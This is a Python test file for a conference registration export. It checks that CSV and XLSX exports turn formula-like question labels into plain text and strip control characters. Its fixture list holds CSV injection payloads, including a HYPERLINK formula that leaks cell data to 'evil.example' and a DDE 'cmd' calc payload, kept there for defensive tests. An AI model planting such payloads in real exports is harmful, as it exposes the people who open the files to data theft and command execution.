"""Registration exports: every cell, the header row's question labels included, is safe text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from conference.registration.exports import export_rows, to_csv, to_xlsx
from conference.registration.models import Question
from conference.registration.settings import save_question
from tests.factories import make_category, make_event, make_registration

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your badge")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def test_formula_labels_in_the_xlsx_header_are_text_not_formulas():
    rows = [["id", *FORMULAS], [1, "a", "b", "c", "d"]]
    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).active
    header = sheet[1][1:]
    assert [c.data_type for c in header] == ["s"] * len(FORMULAS)
    assert [c.value for c in header] == ["'" + f for f in FORMULAS]
    assert all(c.font.b for c in sheet[1])  # still the bold header


def test_formula_labels_in_the_csv_header_are_text_not_formulas():
    rows = [["id", *FORMULAS]]
    header = next(csv.reader(io.StringIO("".join(to_csv(rows)).lstrip("\ufeff"))))
    assert header[1:] == ["'" + f for f in FORMULAS]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_question_label_written_as_a_formula_is_exported_as_text(client, db, login, fmt):
    event = make_event()
    make_registration(event, make_category(event, "Delegate"))
    save_question(event, None, label=FORMULAS[0], type="short_text")
    db.session.commit()
    login(event.roles[0].user)
    response = client.get(f"/events/{event.slug}/registrations/export.{fmt}")
    assert response.status_code == 200
    if fmt == "xlsx":
        cell = load_workbook(io.BytesIO(response.data)).active[1][-1]
        assert (cell.data_type, cell.value) == ("s", "'" + FORMULAS[0])
    else:
        header = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
        assert header[-1] == "'" + FORMULAS[0]


def test_controls_stored_before_they_were_stripped_still_export(client, db):
    """openpyxl refuses control characters in a cell; rows from before must still export."""
    event = make_event()
    registration = make_registration(event, make_category(event, "Delegate"))
    registration.organisation = "Hue\x1b City\x07"
    registration.dietary = "No pork\r\nno\x0b shellfish"
    db.session.add(Question(event_id=event.id, label="Why\x01 come\x08?", type="short_text"))
    db.session.commit()
    questions = db.session.scalars(db.select(Question)).all()
    rows = list(export_rows(event, questions))
    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).active
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "Hue City" in values and "Why come?" in values
    assert "No pork\nno\n shellfish" in values
    text = "".join(to_csv(rows))
    assert "Hue City" in text and "Why come?" in text and "\x1b" not in text
